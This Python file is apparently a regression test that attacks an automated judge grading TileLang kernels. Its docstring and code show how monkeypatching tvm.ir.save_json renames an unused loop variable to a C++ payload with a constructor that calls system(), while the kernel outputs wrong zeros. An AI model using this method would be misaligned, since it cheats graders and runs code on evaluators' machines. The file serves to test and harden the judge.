"""Attack: C++ in the name of a loop variable the loop's body never uses. The judge's old gate checked the names
of the variables its visitor met as expressions, and an unused loop variable is never one; TVM's code generators
print a variable's name verbatim. So the file rewrites the traced TIR on its way out of the tracer
(tvm.ir.save_json, which the tracer calls by name) to give that variable a name that closes the loop and the
function and declares a constructor. Behind the old gate the text reached the generated CUDA verbatim (nvcc
read the payload and stopped at its #include); a name printed into host C++ would run inside the judge when it
loads the kernel. The judge names every variable itself, so gemv keeps its zeros."""

import json

import tilelang
import tilelang.language as T
from tilelang import tvm

MARKER = "tilelang-course-attack-cpp-ran"  # in TILELANG_ATTACK_DIR, were the payload run
PAYLOAD = (
    "unused = 0; unused < 1; ++unused) {} } } }\n"
    "#include <stdlib.h>\n"
    '__attribute__((constructor)) static void tilelang_course_attack() { system("touch \\"$TILELANG_ATTACK_DIR/'
    + MARKER
    + '\\""); }\n'
    "static void tilelang_course_rest() { { { for (int again"
)
_save_json = tvm.ir.save_json


def _with_payload(node):
    document = json.loads(_save_json(node))
    for entry in document["nodes"]:
        if entry["type"] == "ffi.String" and entry["data"] == "unused":
            entry["data"] = PAYLOAD
    return json.dumps(document)


tvm.ir.save_json = _with_payload


@tilelang.jit
def gemv(A, B, BLOCK_M: int, BLOCK_K: int, THREADS: int = 128):
    M, K = T.const("M, K")
    A: T.Tensor((M, K), T.float16)
    B: T.Tensor((K,), T.float16)
    C = T.empty((M,), T.float16)
    with T.Kernel(T.ceildiv(M, BLOCK_M), threads=THREADS) as bx:
        for unused in T.serial(T.ceildiv(K, BLOCK_K)):  # noqa: B007 (the point: a loop variable nothing reads)
            for i in T.Parallel(BLOCK_M):
                C[bx * BLOCK_M + i] = T.float16(0)  # the wrong answer every attack tries to pass off
    return C
